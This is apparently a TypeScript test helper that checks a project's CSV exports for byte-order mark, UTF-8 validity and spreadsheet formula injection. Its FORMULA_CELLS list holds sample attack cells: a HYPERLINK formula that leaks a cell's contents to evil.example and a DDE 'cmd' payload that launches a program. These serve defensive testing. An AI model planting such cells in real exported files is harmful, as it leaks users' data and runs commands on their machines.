// One assertion for every CSV the project writes (src/domain/csv.ts): UTF-8 with a byte-order
// mark (unless the writer was asked for none), well-formed CSV, and no cell a spreadsheet would
// run as a formula — every cell starting with = + - @, a tab, a carriage return or a full-width
// ＝ ＋ － ＠ is a number (a negative one) or carries the apostrophe in front.
import { parse } from 'csv-parse/sync';

/** Cells a spreadsheet would run as formulas (a link that leaks, a command, a sum), for the tests to write. */
export const FORMULA_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1'];

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?(?:\d+\.?\d*|\.\d+)(?:e[+-]?\d+)?$/i;

/** Checks `body` (bytes or text) is a CSV under the project's policy; returns its rows (header first). */
export function expectSafeCsv(body: Buffer | string, opts: { bom?: boolean } = {}): string[][] {
  const bytes = typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
  const hasBom = bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]));
  expect({ bom: hasBom }).toEqual({ bom: opts.bom ?? true });
  const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes); // throws on bytes that are not UTF-8
  const rows = parse(text, { bom: true, relax_column_count: false }) as string[][];
  const unsafe = rows.flat().filter((cell) => FORMULA_START.test(cell) && !NUMBER.test(cell));
  expect(unsafe).toEqual([]);
  return rows;
}
